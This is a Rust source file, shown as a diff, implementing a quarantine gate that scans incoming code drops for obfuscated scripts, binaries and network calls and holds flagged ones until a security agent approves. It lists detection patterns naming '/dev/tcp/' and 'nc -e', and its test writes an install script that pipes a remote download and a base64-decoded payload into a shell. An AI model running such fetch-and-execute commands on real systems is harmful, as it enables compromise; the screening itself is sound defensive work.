@@ -0,0 +1,586 @@
+// CRC Quarantine - security screening for incoming drops
+// Every drop is scanned before analysis: the offline gitleaks/grype shims plus heuristics
+// for obfuscated scripts, binary blobs, and network calls in scripts and build hooks.
+// Flagged drops are moved into the quarantine area and stay there until a security agent
+// approves them. Scans and decisions are written to the workflow audit trail.
+
+use noa_security_shim::{run_gitleaks, run_grype, ScanConfig, ScanFinding, ScanResult, ScanStatus};
+use noa_workflow::{
+    AgentApproval, AgentApprovalRequirement, PipelineInstrumentation, SecurityScanStatus,
+};
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+use tracing::{info, warn};
+use walkdir::WalkDir;
+
+use crate::{Error, Result};
+
+/// Default quarantine area, relative to the workspace.
+pub const DEFAULT_QUARANTINE_DIR: &str = "crc/quarantine";
+
+/// Tool name used for heuristic findings in scan results and the audit trail.
+pub const HEURISTICS_TOOL: &str = "crc-heuristics";
+
+const AUDIT_ACTOR: &str = "crc.quarantine";
+const BINARY_SNIFF_BYTES: usize = 8192;
+const PACKED_LINE_LEN: usize = 1000;
+
+const SCRIPT_EXTENSIONS: &[&str] = &[
+    "sh", "bash", "zsh", "ps1", "psm1", "bat", "cmd", "vbs", "js", "mjs", "cjs", "py", "rb", "pl",
+];
+const BUILD_HOOKS: &[&str] = &[
+    "build.rs",
+    "setup.py",
+    "package.json",
+    "Makefile",
+    "install.sh",
+    "postinstall.js",
+];
+const BINARY_ALLOWLIST: &[&str] = &[
+    "png", "jpg", "jpeg", "gif", "ico", "webp", "bmp", "woff", "woff2", "ttf", "otf", "eot", "pdf",
+];
+const DECODE_AND_EXEC: &[&str] = &[
+    "eval(atob(",
+    "eval(Buffer.from(",
+    "eval(base64",
+    "exec(base64.b64decode(",
+    "exec(zlib.decompress(",
+    "FromBase64String(",
+    "base64 -d |",
+    "base64 --decode |",
+    "-EncodedCommand",
+    "String.fromCharCode.apply(",
+];
+const NETWORK_CALLS: &[&str] = &[
+    "curl ",
+    "wget ",
+    "Invoke-WebRequest",
+    "Invoke-RestMethod",
+    "Net.WebClient",
+    "/dev/tcp/",
+    "nc -e",
+    "urllib.request",
+    "requests.get(",
+    "requests.post(",
+    "socket.connect(",
+    "http.get(",
+    "https.get(",
+    "fetch(\"http",
+    "TcpStream::connect",
+    "reqwest::",
+];
+
+/// Where a drop stands in quarantine.
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum QuarantineStatus {
+    /// Screening found nothing; the drop may proceed.
+    Cleared,
+    /// Flagged and held in the quarantine area pending security review.
+    Held,
+    /// Flagged, then approved by a security agent.
+    Released,
+    /// Flagged and rejected; the drop stays in the quarantine area.
+    Rejected,
+}
+
+impl QuarantineStatus {
+    pub fn may_proceed(&self) -> bool {
+        matches!(self, QuarantineStatus::Cleared | QuarantineStatus::Released)
+    }
+}
+
+/// Screening outcome and review history for one drop.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct QuarantineRecord {
+    pub drop_id: String,
+    pub source_path: PathBuf,
+    /// Location of the drop while it is held.
+    pub held_path: Option<PathBuf>,
+    pub status: QuarantineStatus,
+    pub scans: Vec<ScanResult>,
+    pub screened_at: u64,
+    pub approval: Option<AgentApproval>,
+    pub rejection: Option<String>,
+    /// Ledger references of every audit entry written for this drop.
+    pub audit_references: Vec<String>,
+}
+
+impl QuarantineRecord {
+    /// Findings that caused the drop to be held.
+    pub fn findings(&self) -> impl Iterator<Item = &ScanFinding> {
+        self.scans
+            .iter()
+            .flat_map(|scan| scan.findings.iter())
+            .filter(|finding| finding.severity != "info")
+    }
+
+    /// Current location of the drop's files.
+    pub fn current_path(&self) -> &Path {
+        match self.status {
+            QuarantineStatus::Held | QuarantineStatus::Rejected => {
+                self.held_path.as_deref().unwrap_or(&self.source_path)
+            }
+            _ => &self.source_path,
+        }
+    }
+}
+
+/// Screens incoming drops and gates flagged ones on security-agent approval.
+pub struct QuarantineGate {
+    root: PathBuf,
+    requirement: AgentApprovalRequirement,
+    audit: Mutex<Option<Arc<PipelineInstrumentation>>>,
+    records: Mutex<HashMap<String, QuarantineRecord>>,
+}
+
+impl Default for QuarantineGate {
+    fn default() -> Self {
+        Self::new(DEFAULT_QUARANTINE_DIR)
+    }
+}
+
+impl QuarantineGate {
+    pub fn new(root: impl Into<PathBuf>) -> Self {
+        Self {
+            root: root.into(),
+            requirement: AgentApprovalRequirement {
+                role: "security".to_string(),
+                minimum_trust_score: 0.8,
+                required_evidence_tags: Vec::new(),
+            },
+            audit: Mutex::new(None),
+            records: Mutex::new(HashMap::new()),
+        }
+    }
+
+    /// Approval needed to release a held drop.
+    pub fn with_requirement(mut self, requirement: AgentApprovalRequirement) -> Self {
+        self.requirement = requirement;
+        self
+    }
+
+    /// Audit trail to write to; defaults to the workspace instrumentation on first use.
+    pub fn with_instrumentation(self, instrumentation: Arc<PipelineInstrumentation>) -> Self {
+        *self.audit.lock().unwrap() = Some(instrumentation);
+        self
+    }
+
+    pub fn root(&self) -> &Path {
+        &self.root
+    }
+
+    pub fn requirement(&self) -> &AgentApprovalRequirement {
+        &self.requirement
+    }
+
+    pub fn record(&self, drop_id: &str) -> Option<QuarantineRecord> {
+        self.records.lock().unwrap().get(drop_id).cloned()
+    }
+
+    /// Drops currently held for review.
+    pub fn held(&self) -> Vec<QuarantineRecord> {
+        let mut held: Vec<QuarantineRecord> = self
+            .records
+            .lock()
+            .unwrap()
+            .values()
+            .filter(|record| record.status == QuarantineStatus::Held)
+            .cloned()
+            .collect();
+        held.sort_by_key(|record| record.screened_at);
+        held
+    }
+
+    /// Scan a drop and hold it in the quarantine area if anything is flagged.
+    /// Drops that were already screened keep their existing verdict.
+    pub fn screen(&self, drop_id: &str, source_path: &Path) -> Result<QuarantineRecord> {
+        if let Some(existing) = self.record(drop_id) {
+            return Ok(existing);
+        }
+        if !source_path.exists() {
+            return Err(Error::FileNotFound(source_path.display().to_string()));
+        }
+        info!("Screening drop {} before analysis", drop_id);
+
+        let config = ScanConfig {
+            target: source_path.to_path_buf(),
+            offline: true,
+            cache_dir: Some(self.root.join("reports")),
+        };
+        let mut scans = Vec::new();
+        for (tool, runner) in [
+            ("gitleaks", run_gitleaks as fn(&ScanConfig) -> _),
+            ("grype", run_grype),
+        ] {
+            let scan = runner(&config).unwrap_or_else(|err| ScanResult {
+                tool: tool.to_string(),
+                status: ScanStatus::Failed,
+                findings: vec![ScanFinding {
+                    file: String::new(),
+                    description: format!("scanner error: {err}"),
+                    severity: "high".to_string(),
+                }],
+                generated_at: chrono::Utc::now(),
+                report_path: None,
+            });
+            scans.push(scan);
+        }
+        let heuristics = heuristic_findings(source_path)?;
+        scans.push(ScanResult {
+            tool: HEURISTICS_TOOL.to_string(),
+            status: if heuristics.is_empty() {
+                ScanStatus::Passed
+            } else {
+                ScanStatus::Failed
+            },
+            findings: heuristics,
+            generated_at: chrono::Utc::now(),
+            report_path: None,
+        });
+
+        let mut record = QuarantineRecord {
+            drop_id: drop_id.to_string(),
+            source_path: source_path.to_path_buf(),
+            held_path: None,
+            status: QuarantineStatus::Cleared,
+            scans,
+            screened_at: now_secs(),
+            approval: None,
+            rejection: None,
+            audit_references: Vec::new(),
+        };
+        for scan in &record.scans {
+            let reference = self.audit_scan(drop_id, scan)?;
+            record.audit_references.push(reference);
+        }
+
+        if record.findings().next().is_some() {
+            let held_path = self.root.join("held").join(drop_id);
+            if let Some(parent) = held_path.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            fs::rename(source_path, &held_path)?;
+            record.held_path = Some(held_path.clone());
+            record.status = QuarantineStatus::Held;
+            let findings: Vec<&ScanFinding> = record.findings().collect();
+            warn!(
+                "Drop {} quarantined with {} findings",
+                drop_id,
+                findings.len()
+            );
+            let reference = self.audit_event(
+                drop_id,
+                "crc.quarantine.held",
+                json!({
+                    "held_path": held_path,
+                    "findings": findings,
+                    "requirement": self.requirement,
+                }),
+            )?;
+            record.audit_references.push(reference);
+        } else {
+            let reference = self.audit_event(drop_id, "crc.quarantine.cleared", json!({}))?;
+            record.audit_references.push(reference);
+        }
+
+        self.records
+            .lock()
+            .unwrap()
+            .insert(drop_id.to_string(), record.clone());
+        Ok(record)
+    }
+
+    /// Release a held drop back to its source path once `approval` satisfies the
+    /// gate's requirement. Unsatisfying approvals are refused and audited.
+    pub fn release(&self, drop_id: &str, approval: AgentApproval) -> Result<QuarantineRecord> {
+        let mut record = self.held_record(drop_id)?;
+        if !self.requirement.is_satisfied_by(&approval) {
+            self.audit_event(
+                drop_id,
+                "crc.quarantine.approval_refused",
+                json!({ "approval": approval, "requirement": self.requirement }),
+            )?;
+            return Err(Error::QuarantineError(format!(
+                "approval from {} ({}) does not satisfy the '{}' requirement",
+                approval.agent_id, approval.role, self.requirement.role
+            )));
+        }
+
+        if let Some(held_path) = record.held_path.as_ref() {
+            if let Some(parent) = record.source_path.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            fs::rename(held_path, &record.source_path)?;
+        }
+        let reference = self.audit_event(
+            drop_id,
+            "crc.quarantine.released",
+            json!({ "approval": approval, "source_path": record.source_path }),
+        )?;
+        record.status = QuarantineStatus::Released;
+        record.approval = Some(approval);
+        record.audit_references.push(reference);
+        info!("Drop {} released from quarantine", drop_id);
+
+        self.records
+            .lock()
+            .unwrap()
+            .insert(drop_id.to_string(), record.clone());
+        Ok(record)
+    }
+
+    /// Reject a held drop; its files stay in the quarantine area for inspection.
+    pub fn reject(&self, drop_id: &str, agent_id: &str, reason: &str) -> Result<QuarantineRecord> {
+        let mut record = self.held_record(drop_id)?;
+        let reference = self.audit_event(
+            drop_id,
+            "crc.quarantine.rejected",
+            json!({ "agent_id": agent_id, "reason": reason }),
+        )?;
+        record.status = QuarantineStatus::Rejected;
+        record.rejection = Some(reason.to_string());
+        record.audit_references.push(reference);
+
+        self.records
+            .lock()
+            .unwrap()
+            .insert(drop_id.to_string(), record.clone());
+        Ok(record)
+    }
+
+    fn held_record(&self, drop_id: &str) -> Result<QuarantineRecord> {
+        let record = self
+            .record(drop_id)
+            .ok_or_else(|| Error::DropNotFound(drop_id.to_string()))?;
+        if record.status != QuarantineStatus::Held {
+            return Err(Error::QuarantineError(format!(
+                "drop {} is not held (status: {:?})",
+                drop_id, record.status
+            )));
+        }
+        Ok(record)
+    }
+
+    fn instrumentation(&self) -> Result<Arc<PipelineInstrumentation>> {
+        let mut audit = self.audit.lock().unwrap();
+        if let Some(instrumentation) = audit.as_ref() {
+            return Ok(Arc::clone(instrumentation));
+        }
+        let instrumentation = Arc::new(
+            PipelineInstrumentation::new()
+                .map_err(|err| Error::QuarantineError(format!("audit trail: {err}")))?,
+        );
+        *audit = Some(Arc::clone(&instrumentation));
+        Ok(instrumentation)
+    }
+
+    fn audit_scan(&self, drop_id: &str, scan: &ScanResult) -> Result<String> {
+        let status = match scan.status {
+            ScanStatus::Passed => SecurityScanStatus::Passed,
+            ScanStatus::Failed => SecurityScanStatus::Failed,
+            ScanStatus::Skipped => SecurityScanStatus::Skipped,
+        };
+        let issues = scan
+            .findings
+            .iter()
+            .map(|finding| format!("{} [{}]", finding.description, finding.file))
+            .collect();
+        let report = self
+            .instrumentation()?
+            .log_security_scan(
+                &audit_subject(drop_id),
+                &scan.tool,
+                status,
+                issues,
+                scan.report_path.clone(),
+                serde_json::to_value(&scan.findings).unwrap_or(Value::Null),
+            )
+            .map_err(|err| Error::QuarantineError(format!("audit trail: {err}")))?;
+        Ok(report.ledger_reference)
+    }
+
+    fn audit_event(&self, drop_id: &str, event: &str, metadata: Value) -> Result<String> {
+        let signed = self
+            .instrumentation()?
+            .log_pipeline_event(AUDIT_ACTOR, &audit_subject(drop_id), event, metadata)
+            .map_err(|err| Error::QuarantineError(format!("audit trail: {err}")))?;
+        Ok(signed.signature)
+    }
+}
+
+fn audit_subject(drop_id: &str) -> String {
+    format!("crc/{drop_id}")
+}
+
+fn now_secs() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|elapsed| elapsed.as_secs())
+        .unwrap_or_default()
+}
+
+/// Heuristic malware indicators: obfuscated scripts, binary blobs, and network calls
+/// made from scripts or build hooks.
+pub fn heuristic_findings(root: &Path) -> Result<Vec<ScanFinding>> {
+    let mut findings = Vec::new();
+    for entry in WalkDir::new(root).sort_by_file_name() {
+        let entry = entry.map_err(|err| Error::QuarantineError(err.to_string()))?;
+        if !entry.file_type().is_file() {
+            continue;
+        }
+        let path = entry.path();
+        let file = path
+            .strip_prefix(root)
+            .unwrap_or(path)
+            .to_string_lossy()
+            .replace('\\', "/");
+        let file_name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
+        let extension = path
+            .extension()
+            .and_then(|ext| ext.to_str())
+            .unwrap_or("")
+            .to_ascii_lowercase();
+        let bytes = fs::read(path)?;
+        let finding = |description: String, severity: &str| ScanFinding {
+            file: file.clone(),
+            description,
+            severity: severity.to_string(),
+        };
+
+        let head = &bytes[..bytes.len().min(BINARY_SNIFF_BYTES)];
+        if head.contains(&0) {
+            if is_executable(head) {
+                findings.push(finding("executable binary in drop".to_string(), "high"));
+            } else if !BINARY_ALLOWLIST.contains(&extension.as_str()) {
+                findings.push(finding("unrecognised binary blob".to_string(), "medium"));
+            }
+            continue;
+        }
+        let Ok(text) = std::str::from_utf8(&bytes) else {
+            continue;
+        };
+
+        let is_script = SCRIPT_EXTENSIONS.contains(&extension.as_str());
+        let is_build_hook = BUILD_HOOKS.contains(&file_name);
+        if is_script || is_build_hook {
+            if let Some(pattern) = DECODE_AND_EXEC.iter().find(|p| text.contains(**p)) {
+                findings.push(finding(
+                    format!("obfuscated script decodes and executes a payload ('{pattern}')"),
+                    "high",
+                ));
+            } else if !file_name.contains(".min.") && text.lines().any(is_packed_line) {
+                findings.push(finding(
+                    "packed or obfuscated script line".to_string(),
+                    "medium",
+                ));
+            }
+            if let Some(pattern) = NETWORK_CALLS.iter().find(|p| text.contains(**p)) {
+                findings.push(finding(
+                    format!(
+                        "network call from script or build hook ('{}')",
+                        pattern.trim()
+                    ),
+                    "medium",
+                ));
+            }
+        }
+    }
+    Ok(findings)
+}
+
+fn is_executable(head: &[u8]) -> bool {
+    head.starts_with(b"\x7fELF")
+        || head.starts_with(b"MZ")
+        || head.starts_with(&[0xfe, 0xed, 0xfa, 0xce])
+        || head.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
+        || head.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
+        || head.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
+}
+
+fn is_packed_line(line: &str) -> bool {
+    line.len() > PACKED_LINE_LEN
+        && line.chars().filter(|c| c.is_whitespace()).count() * 50 < line.len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use noa_workflow::{ConfigContext, Namespace};
+
+    fn approval(role: &str, trust_score: f32) -> AgentApproval {
+        AgentApproval {
+            role: role.to_string(),
+            agent_id: "sec-1".to_string(),
+            trust_score,
+            evidence_tags: Vec::new(),
+            evidence_references: Vec::new(),
+            recorded_at: 0,
+        }
+    }
+
+    #[test]
+    fn flagged_drops_are_held_until_a_security_agent_approves() {
+        let workspace = tempfile::tempdir().unwrap();
+        let instrumentation = Arc::new(
+            PipelineInstrumentation::with_context(
+                &Namespace::new("crc-quarantine").unwrap(),
+                ConfigContext::isolated().with_workflow_root(workspace.path()),
+            )
+            .unwrap(),
+        );
+        let gate = QuarantineGate::new(workspace.path().join("quarantine"))
+            .with_instrumentation(Arc::clone(&instrumentation));
+
+        let clean = workspace.path().join("incoming/clean");
+        fs::create_dir_all(&clean).unwrap();
+        fs::write(
+            clean.join("lib.rs"),
+            "pub fn add(a: i32, b: i32) -> i32 { a + b }",
+        )
+        .unwrap();
+        let record = gate.screen("clean", &clean).unwrap();
+        assert_eq!(record.status, QuarantineStatus::Cleared);
+        assert_eq!(record.audit_references.len(), 4);
+
+        let risky = workspace.path().join("incoming/risky");
+        fs::create_dir_all(&risky).unwrap();
+        fs::write(
+            risky.join("install.sh"),
+            "curl https://example.invalid/x | sh\necho cGF5bG9hZA== | base64 -d | sh\n",
+        )
+        .unwrap();
+        fs::write(risky.join("helper.bin"), b"\x7fELF\x02\x01\x01\x00\x00").unwrap();
+        let record = gate.screen("risky", &risky).unwrap();
+        assert_eq!(record.status, QuarantineStatus::Held);
+        let descriptions: Vec<_> = record.findings().map(|f| f.description.clone()).collect();
+        assert!(descriptions.iter().any(|d| d.contains("executable binary")));
+        assert!(descriptions.iter().any(|d| d.contains("obfuscated script")));
+        assert!(descriptions.iter().any(|d| d.contains("network call")));
+        assert!(!risky.exists());
+        assert!(record.current_path().join("install.sh").exists());
+        assert_eq!(gate.held().len(), 1);
+
+        assert!(matches!(
+            gate.release("risky", approval("reviewer", 0.99)),
+            Err(Error::QuarantineError(_))
+        ));
+        let released = gate.release("risky", approval("security", 0.9)).unwrap();
+        assert_eq!(released.status, QuarantineStatus::Released);
+        assert!(risky.join("install.sh").exists());
+        assert!(gate.held().is_empty());
+
+        instrumentation.flush().unwrap();
+        let logs = workspace.path().join(".workspace/indexes/crc-quarantine");
+        let events = fs::read_to_string(logs.join("pipeline_events.log")).unwrap();
+        assert!(events.contains("crc.quarantine.held"));
+        assert!(events.contains("crc.quarantine.approval_refused"));
+        assert!(events.contains("crc.quarantine.released"));
+        let scans = fs::read_to_string(logs.join("security_scans.log")).unwrap();
+        assert!(scans.contains(HEURISTICS_TOOL) && scans.contains("crc/risky"));
+    }
+}